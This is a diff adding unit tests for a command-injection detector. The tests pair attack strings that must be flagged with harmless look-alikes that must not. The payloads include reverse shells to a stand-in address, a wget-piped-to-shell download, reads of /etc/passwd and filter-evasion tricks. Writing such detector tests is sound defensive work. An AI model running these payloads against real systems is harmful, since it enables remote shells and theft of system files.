@@ -1,0 +1,72 @@
+"""Command injection: what must fire, and what must not."""
+
+from services.detect.detectors.rce import DETECTOR
+from tests.unit.detect.detectors.cases import (
+    check_attacks,
+    check_fires,
+    check_silent,
+    header,
+    query,
+)
+
+FIRES = {
+    "rce.unix-command": [(query, "; cat /srv/x"), (query, "| id"), (query, "&& whoami")],
+    "rce.glued-command": [(query, "9;id;"), (query, "x|ls -la")],
+    "rce.windows-command": [(query, "& ipconfig /all"), (query, "|tasklist")],
+    "rce.assigned-command": [(query, "a='id';$a")],
+    "rce.whole-command": [(query, "cat /etc/hostname"), (query, "ping -c 3 x")],
+    "rce.download-and-run": [
+        (query, "wget http://x.example/a.sh | sh"),
+        (query, "; curl x.example/a"),
+    ],
+    "rce.substitution": [(query, "$(id)"), (query, "`whoami`")],
+    "rce.shell-path": [(query, "/bin/sh"), (query, "x=/usr/bin/id")],
+    "rce.reverse-shell": [
+        (query, "nc -e /bin/sh 203.0.113.5 4444"),
+        (query, "bash -i >& /dev/tcp/203.0.113.5/44"),
+    ],
+    "rce.powershell": [(query, "powershell -enc AAAA"), (query, "cmd /c dir")],
+    "rce.timing": [(query, "; sleep 9"), (query, "| ping -n 9 127.0.0.1")],
+    "rce.code-call": [(query, "os.system('id')"), (query, "__import__('os')")],
+    "rce.variables": [(query, "cat${IFS}/etc"), (query, "{cat,/etc/x}")],
+    "rce.redirect": [(query, "; echo x > /tmp/y"), (query, "echo 1 >> a.php")],
+    "rce.glob": [(query, "/???/c?t /x"), (query, "; /b?n/ls")],
+    "rce.batch": [(query, "for /f %i in (x) do y"), (query, "if exist C:\\x")],
+    "rce.perl": [(query, "@{[ go() ]}")],
+    "rce.ssi": [(query, '<!--#exec cmd="x" -->')],
+}
+
+ATTACKS = [
+    (query, "127.0.0.1; cat /etc/passwd"),
+    (query, "x`id`"),
+    (query, "a && c''at /etc/hosts"),
+    (query, "%3Bcat%20/etc/passwd"),
+]
+
+SILENT = [
+    (query, "cats & dogs; more to come"),
+    (query, "name|date|time|type|id"),
+    (query, "R&D | Sales"),
+    (query, "a; b; c"),
+    (query, "salt & pepper"),
+    (query, "find the host; read the date"),
+    (query, "```python\nimport os\n```\nis how you run the rest of it"),
+    (query, "tail -f is a fine way to read"),
+    (query, "&lt;id&gt;"),
+    (query, "echo chamber"),
+    (query, "| a | b |\n|---|---|\n| id | date |"),
+    (header, "User-Agent: Mozilla/5.0 (X11; U; id) Gecko"),
+]
+
+
+def test_every_rule_fires_on_its_cases() -> None:
+    assert sum(len(cases) for cases in FIRES.values()) == 34
+    check_fires(DETECTOR, FIRES)
+
+
+def test_whole_attacks_are_called_so() -> None:
+    check_attacks(DETECTOR, ATTACKS)
+
+
+def test_look_alikes_are_silent() -> None:
+    check_silent(SILENT)
